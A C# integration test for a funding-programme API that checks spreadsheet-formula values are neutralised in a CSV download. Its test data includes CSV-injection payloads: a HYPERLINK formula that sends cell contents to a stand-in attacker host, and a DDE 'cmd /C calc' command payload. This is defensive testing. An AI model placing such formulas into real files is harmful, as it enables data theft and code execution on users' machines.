using System.Text;
using IntegrationFunding.Api.Tests.Infrastructure;
using IntegrationFunding.Api.Ui.Profiles;
using IntegrationFunding.Domain.Profiles;
using IntegrationFunding.Domain.Programmes;
using IntegrationFunding.Search.Querying;
using IntegrationFunding.Storage.Programmes;
using Microsoft.Extensions.DependencyInjection;

namespace IntegrationFunding.Api.Tests.Hardening;

/// <summary>A crawled programme whose name or funder is a spreadsheet formula lands neutralised in treffer.csv.</summary>
public sealed class MatchesCsvInjectionTests
{
    [Fact]
    public async Task FormulaCells_AreNeutralised_InTheDownloadedCsv()
    {
        using var app = new ApiApplication();
        using var client = app.CreateClient();
        await app.Services.GetRequiredService<ProgrammeWriter>().ApplyAsync(
            [
                Hostile("test-csv-1", "=HYPERLINK(\"https://boese.example/?d=\"&A1;\"Klick\")", "@SUM(1+1)*cmd|' /C calc'!A0"),
                Hostile("test-csv-2", "+Sprachkurse für Geflüchtete", "-2+3"),
                Hostile("test-csv-3", "\tSprachmittlung", "\rFörderverein"),
            ],
            "test");
        // The host applies programme changes to its index in the background: wait until it has these three.
        await app.Services.GetRequiredService<ProgrammeSearch>().CatchUpAsync();
        var created = await app.Services.GetRequiredService<IWebProfiles>().CreateAsync(
            new MunicipalityProfile
            {
                Id = "", Name = "Gemeinde Neuhof", State = "DE-NW", Kind = "gemeinde",
                Goals = [new ProfileGoal("sprache", 1, "Sprachkurse")],
            },
            CancellationToken.None);

        var bytes = await client.GetByteArrayAsync(new Uri($"/profil/{created.Id}/treffer.csv", UriKind.Relative));
        var csv = Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3);

        foreach (var line in Lines(csv).Skip(1))
        {
            foreach (var cell in Cells(line))
            {
                Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal), $"formula cell: {cell}");
            }
        }

        Assert.Contains("\"'=HYPERLINK(", csv, StringComparison.Ordinal);
        Assert.Contains("'@SUM(1+1)", csv, StringComparison.Ordinal);
        Assert.Contains("'+Sprachkurse für Geflüchtete", csv, StringComparison.Ordinal);
        Assert.Contains("'-2+3", csv, StringComparison.Ordinal);
    }

    private static Programme Hostile(string id, string name, string funder) => new()
    {
        Id = id,
        Name = name,
        Funder = funder,
        Level = "land",
        States = ["DE-NW"],
        Topics = ["sprache"],
        Applicants = ["gemeinde"],
        MunicipalitiesEligible = true,
        DeadlineType = DeadlineTypes.Rolling,
        Summary = "Sprachkurse und Sprachmittlung für Geflüchtete in Kommunen.",
        Url = "https://example.org/programm",
        Lifecycle = ProgrammeLifecycle.Active,
    };

    /// <summary>Splits CSV into records (quoted fields may hold line breaks).</summary>
    private static IEnumerable<string> Lines(string csv)
    {
        var current = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < csv.Length; i++)
        {
            var c = csv[i];
            if (c == '"')
            {
                quoted = !quoted;
            }

            if (!quoted && c == '\r' && i + 1 < csv.Length && csv[i + 1] == '\n')
            {
                yield return current.ToString();
                current.Clear();
                i++;
                continue;
            }

            current.Append(c);
        }

        if (current.Length > 0)
        {
            yield return current.ToString();
        }
    }

    /// <summary>The cells of one record, unquoted: what Excel evaluates.</summary>
    private static IEnumerable<string> Cells(string line)
    {
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < line.Length; i++)
        {
            var c = line[i];
            if (c == '"')
            {
                if (quoted && i + 1 < line.Length && line[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else
                {
                    quoted = !quoted;
                }
            }
            else if (c == ';' && !quoted)
            {
                yield return cell.ToString();
                cell.Clear();
            }
            else
            {
                cell.Append(c);
            }
        }

        yield return cell.ToString();
    }
}
